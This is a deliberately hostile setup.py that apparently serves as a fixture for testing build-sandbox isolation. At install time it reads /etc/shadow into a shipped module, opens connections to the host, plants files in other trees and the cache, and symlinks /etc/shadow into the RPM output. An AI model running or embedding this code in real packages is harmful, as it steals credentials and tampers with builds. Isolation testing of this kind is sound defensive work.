"""Hostile on purpose: every build step that runs this file tries to escape the build.

The test writes attack.json next to this file: which attacks to run and the host paths and
ports to aim at. Each attempt reports one line `ATTACK <name>: done|blocked: <error>`, printed
(the build log shows it when the build tool does not hide setup.py's output) and appended to
hostile_report.py; stolen data goes into hostile_loot.py. The package ships both.
"""

import glob
import json
import os
import socket

import setuptools

HERE = os.path.dirname(os.path.abspath(__file__))
PLAN = json.load(open(os.path.join(HERE, "attack.json")))


def report(line):
    print(line, flush=True)
    with open(os.path.join(HERE, "hostile_report.py"), "a") as handle:
        handle.write(f"# {line}\n")


def attempt(name, action):
    try:
        action()
        report(f"ATTACK {name}: done")
    except Exception as error:  # noqa: BLE001 - the point is to report whatever stopped it
        report(f"ATTACK {name}: blocked: {type(error).__name__}: {error}")


def write_file(path):
    with open(path, "w") as handle:
        handle.write("written by a hostile setup.py\n")


def steal(path):
    with open(path) as handle:
        loot = handle.read()
    with open(os.path.join(HERE, "hostile_loot.py"), "w") as handle:
        handle.write(f"LOOT = {loot!r}\n")


def connect(address):
    with socket.create_connection(address, timeout=3) as conn:
        conn.sendall(b"hello from a build\n")


def write_into_trees(patterns):
    targets = [path for pattern in patterns for path in glob.glob(pattern)]
    if not targets:
        raise FileNotFoundError(f"none of {patterns} is visible")
    for target in targets:
        write_file(os.path.join(target, "planted-by-hostile"))


def smuggle_output():
    """An extra "RPM" that is a link to a host secret, for buildtool to carry out."""
    rpms = os.path.join(os.environ["RPM_BUILD_DIR"], "..", "RPMS", "noarch")
    os.makedirs(rpms, exist_ok=True)
    os.symlink("/etc/shadow", os.path.join(rpms, "zz-smuggled-1.0-1.noarch.rpm"))


attacks = {
    "write-var-tmp": lambda: write_file(PLAN["var_tmp_file"]),
    "read-shadow": lambda: steal("/etc/shadow"),
    "read-home": lambda: os.listdir(PLAN["home"]),
    "network-loopback": lambda: connect(("127.0.0.1", PLAN["port"])),
    "network-host-address": lambda: connect((PLAN["host_address"], PLAN["port"])),
    "write-other-trees": lambda: write_into_trees(PLAN["other_trees"]),
    "poison-cache": lambda: write_into_trees([PLAN["cache"]]),
    "smuggle-output": smuggle_output,
}
report(f"ATTACK-IDENTITY uid={os.getuid()} gid={os.getgid()}")
for name in PLAN["attacks"]:
    attempt(name, attacks[name])

setuptools.setup(name="hostile", version="1.0", py_modules=["hostile", "hostile_loot", "hostile_report"])
